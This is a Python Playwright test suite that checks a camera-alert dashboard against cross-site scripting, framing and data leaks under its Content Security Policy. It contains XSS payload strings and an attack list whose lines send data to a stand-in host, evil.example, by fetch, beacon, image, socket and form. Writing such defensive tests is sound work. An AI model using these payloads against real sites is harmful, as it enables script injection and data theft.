"""Whatever stands in Redis is text on the page: nothing of it runs, loads or leads anywhere, in any view."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any, Literal, get_args, get_origin, get_type_hints

import msgspec
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.dashboard.feed import Feed
from tests.dashboard.pages import Start, jpeg, pumped, services
from tests.support.messages import EXAMPLES
from wire.keys import FIELD
from wire.messages import Alert, AlertEvent, CameraState, Message, Review, Score, ServiceState

HOSTILE = (
    '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>',
    "\"'><svg/onload=window.pwned=3><style>*{background:url(//evil.example/a)}</style>",
    "javascript:window.pwned=4//</title></script><script>window.pwned=5</script>",
    "</p><base href=//evil.example/><iframe srcdoc='<script>parent.pwned=6</script>'></iframe>",
    "${window.pwned=7}{{constructor.constructor('window.pwned=8')()}}\u202e\u2028\u0000\x1b[31m",
    "__proto__",
    "constructor",
    "../../../%2e%2e/\\..\\?x=1#/alert/<a href=javascript:window.pwned=9>",
    "ä" * 3000,
)
VIEWS = {"#/": "alert-item", "#/history": ".history td", "#/system": ".stages", "#/wall": "#wall-calm"}


@pytest.fixture
def watched(browser: Browser) -> Iterator[tuple[Page, list[str], list[str]]]:
    """A page, what violated its policy or failed on it, and every address it asked for and was let."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    wrong: list[str] = []
    asked: list[str] = []
    context.expose_function("violated", lambda text: wrong.append(f"violation: {text}"))
    context.add_init_script(
        "addEventListener('securitypolicyviolation', e => violated(`${e.violatedDirective} ${e.blockedURI}`))"
    )
    page = context.new_page()
    page.on("pageerror", lambda error: wrong.append(f"error: {error}"))
    page.on("dialog", lambda dialog: wrong.append(f"dialog: {dialog.message}"))
    page.on("console", lambda line: wrong.append(line.text) if "Content Security Policy" in line.text else None)
    context.on("request", lambda request: asked.append(request.url))
    context.on("requestfailed", lambda request: asked.remove(request.url) if "csp" in str(request.failure) else None)
    page.on("websocket", lambda socket: asked.append(socket.url))
    page.set_default_timeout(20_000)
    expect.set_options(timeout=20_000)
    yield page, wrong, asked
    context.close()


def hostile(message: Message, text: str, keep: tuple[str, ...] = ()) -> Any:
    """`message` with `text` in every field that is free text."""
    hints = get_type_hints(type(message))
    changed = {
        field: text if hints[field] is str else value
        for field, value in msgspec.structs.asdict(message).items()
        if field not in keep and (hints[field] is str or get_origin(hints[field]) is Literal)
    }
    assert all(get_args(hints[field]) or value == text for field, value in changed.items())
    return msgspec.structs.replace(message, **changed)


def example(kind: type[Message]) -> Any:
    return next(message for message in EXAMPLES if type(message) is kind)


def poison(feed: Feed, number: int, text: str) -> str:
    """Everything the page shows, straight into Redis; the alert's id."""
    now = time.time()
    bus, keys = feed.bus, feed.keys
    times: dict[str, Any] = {"since": now - 60, "updated": now}
    camera = msgspec.structs.replace(hostile(example(CameraState), text), **times, last_frame=now)
    bus.sadd(keys.camera_names, text)
    bus.set(keys.camera(text), camera.encode())
    bus.xadd(keys.cameras, {FIELD: camera.encode()})
    bus.set(keys.preview(text), jpeg() if number % 2 else text.encode())
    worker = msgspec.structs.replace(hostile(example(ServiceState), text), **times)
    bus.set(keys.service("worker", f"{number}"), worker.encode())
    score = msgspec.structs.replace(hostile(example(Score), text), captured=now, scored=now)
    bus.xadd(keys.scores, {FIELD: score.encode()})
    id = f"{number}{text}"
    review = msgspec.structs.replace(hostile(example(Review), text), alert=id)
    alert: Alert = msgspec.structs.replace(
        hostile(example(Alert), text), id=id, review=review, started=now - number, updated=now, ended=None
    )
    bus.set(keys.alert(id), alert.encode())
    bus.xadd(keys.alerts, {FIELD: AlertEvent(event="new", at=now, alert=alert).encode()})
    feed.all_evidence(id, [text.encode(), jpeg()], mp4=text.encode())
    return id


def test_hostile_text_in_every_field_runs_nowhere(
    watched: tuple[Page, list[str], list[str]], dashboard: Start, feed: Feed
) -> None:
    page, wrong, asked = watched
    services(feed)
    ids = [poison(feed, number, text) for number, text in enumerate(HOSTILE)]
    one = dashboard(stale_after_s=60).synced()
    page.goto(one.http)
    page.locator("camera-card").nth(len(HOSTILE) - 1).wait_for(state="attached")
    expect(page.locator("alert-item")).to_have_count(len(HOSTILE))
    expect(page.locator("camera-card h3").filter(has_text=HOSTILE[0])).to_have_count(1)
    quoted = [page.evaluate("encodeURIComponent", id) for id in ids]
    places = [*VIEWS, *(f"#/alert/{id}" for id in quoted), f"#/history?camera={quoted[0]}&{quoted[1]}"]
    for place in places:
        page.evaluate("hash => { location.hash = hash }", place)
        page.wait_for_timeout(250)
    for event in ("update", "end"):  # live, with the drawer open
        changed = msgspec.structs.replace(example(Alert), id=ids[0], detail=HOSTILE[0], camera=HOSTILE[1])
        feed.add(feed.keys.alerts, AlertEvent(event=event, at=time.time(), alert=changed))  # type: ignore[arg-type]
    page.wait_for_timeout(300)
    assert page.evaluate("[window.pwned, Object.prototype.pwned]") == [None, None]
    assert page.evaluate(
        "document.querySelectorAll('main script, main iframe, main base, main style, [onerror], [onload], "
        "a[href^=\"javascript:\"], img[src=x], dialog script, dialog iframe').length"
    ) == 0  # fmt: skip
    assert wrong == []
    assert foreign(asked, one.port) == []


def foreign(asked: list[str], port: int) -> list[str]:
    here = (f"http://127.0.0.1:{port}/", f"ws://127.0.0.1:{port}/", f"blob:http://127.0.0.1:{port}/")
    return [url for url in asked if not url.startswith(here)]


def test_every_view_asks_this_origin_only_and_keeps_to_the_policy(
    watched: tuple[Page, list[str], list[str]], dashboard: Start, feed: Feed
) -> None:
    page, wrong, asked = watched
    services(feed)
    feed.camera("door")
    feed.bus.set(feed.keys.preview("door"), jpeg())
    feed.alert("a1")
    feed.all_evidence("a1", [jpeg()] * 16)
    one = dashboard(stale_after_s=60, token="s3cret").synced()
    page.goto(one.http)
    page.locator("#login-password").fill("s3cret")
    page.locator("#login-go").click()
    page.locator("#camera-door img").wait_for()
    for place, mark in {**VIEWS, "#/alert/a1": ".crop"}.items():
        page.evaluate("hash => { location.hash = hash }", place)
        page.locator(mark).first.wait_for(state="attached")
    page.get_by_label("Note").fill("<b>")
    page.get_by_role("button", name="Confirmed").click()
    page.locator(".said").filter(has_text="<b>").wait_for()
    page.get_by_role("button", name="Export as ZIP").click()
    wanted = {"", "static/app.js", "static/wall.js", "static/system.js", "static/history.js", "static/drawer.js"}
    wanted |= {"api/v1/system", "api/v1/alerts/a1/evidence/clip.mp4", "api/v1/alerts/a1/export.zip"}

    def paths() -> set[str]:
        return {url.split("/", 3)[3].split("?")[0] for url in asked if url.startswith("http")}

    pumped(page, lambda: wanted <= paths(), f"all views have asked for {wanted}")
    page.get_by_role("button", name="Close", exact=True).first.click()
    page.evaluate("() => { location.hash = '#/' }")
    page.locator("#sound").select_option("once")
    page.locator("#theme").select_option("light")
    page.locator("#help-open").click()
    page.wait_for_timeout(200)
    assert foreign(asked, one.port) == []
    assert wrong == []


def made(tag: str, put: str, then: str = "") -> str:
    """JavaScript that puts an element into the page."""
    return f"const e = document.createElement('{tag}'); {put}; document.body.append(e); {then}"


ATTACKS = {
    "an inline script": made("script", "e.textContent = 'window.pwned=1'"),
    "an inline handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned=1\">')",
    "a script of another site": made("script", "e.src = '//evil.example/a.js'"),
    "a script of data": made("script", "e.src = 'data:text/javascript,window.pwned=1'"),
    "a script from a blob": made("script", "e.src = URL.createObjectURL(new Blob(['window.pwned=1']))"),
    "eval": "setTimeout('window.pwned=1')",
    "a javascript link": made("a", "e.href = 'javascript:window.pwned=1'", "e.click()"),
    "a frame": made("iframe", "e.src = 'https://evil.example/'"),
    "a frame of its own text": made("iframe", "e.srcdoc = '<script>parent.pwned=1</script>'"),
    "a picture that tells": "new Image().src = 'https://evil.example/?' + document.title",
    "a request that tells": "fetch('https://evil.example/').catch(() => 0)",
    "a socket that tells": "try { new WebSocket('wss://evil.example/') } catch {}",
    "a beacon": "navigator.sendBeacon('https://evil.example/', 'x')",
    "a form": made("form", "e.action = 'https://evil.example/'", "e.submit()"),
    "a base": made("base", "e.href = 'https://evil.example/'"),
    "a sheet of another site": made("link", "e.rel = 'stylesheet'; e.href = 'https://evil.example/a.css'"),
    "an inline sheet": made("style", "e.textContent = '*{color:red}'"),
    "a plug-in": made("object", "e.data = 'https://evil.example/'"),
    "a worker": "try { new Worker('data:text/javascript,0') } catch {}",
}


def test_what_is_injected_all_the_same_does_not_run_or_tell(
    watched: tuple[Page, list[str], list[str]], dashboard: Start, feed: Feed
) -> None:
    """The second line: were markup to get in, the policy stops it."""
    page, wrong, asked = watched
    services(feed)
    one = dashboard().synced()
    page.goto(one.http)
    page.locator("#link").filter(has_text="Live").wait_for()
    assert wrong == []
    for what, attack in ATTACKS.items():
        before = len(wrong)
        page.evaluate(f"() => {{ {attack} }}")
        pumped(page, lambda before=before: len(wrong) > before, f"a violation by {what} is reported")
        assert page.evaluate("window.pwned") is None, what
    page.wait_for_timeout(200)
    # A request is known before it is known that the policy has stopped it.
    pumped(page, lambda: foreign(asked, one.port) == [], "none has left")
    assert page.url.startswith(one.http)


def test_no_other_page_may_frame_it(browser: Browser, dashboard: Start, feed: Feed) -> None:
    one, other = dashboard(), dashboard()
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{other.http}/healthz")
    page.route("**/frame", lambda route: route.fulfill(
        content_type="text/html", body=f"<iframe src='{one.http}/'></iframe>"
    ))  # fmt: skip
    page.goto(f"{other.http}/frame")
    page.wait_for_timeout(300)
    assert page.frames[1].url.startswith("chrome-error:") or page.frames[1].url == "about:blank"
    context.close()


def test_a_picture_that_is_a_page_is_saved_and_not_opened(browser: Browser, dashboard: Start, feed: Feed) -> None:
    feed.alert("a1")
    feed.all_evidence("a1", [b"<script>window.pwned=1</script>"], mp4=b"<script>window.pwned=1</script>")
    feed.bus.set(feed.keys.preview("door"), b"<script>window.pwned=1</script>")
    feed.camera("door")
    one = dashboard().synced()
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    for path in ("evidence/0.jpg", "evidence/clip.mp4", "export.zip"):
        with page.expect_download() as coming:
            page.evaluate("url => { location.href = url }", f"{one.http}/api/v1/alerts/a1/{path}")
        assert coming.value.suggested_filename.startswith("unmask-a1")
    page.goto(f"{one.http}/api/v1/cameras/door/preview.jpg")
    assert page.evaluate("window.pwned") is None
    context.close()
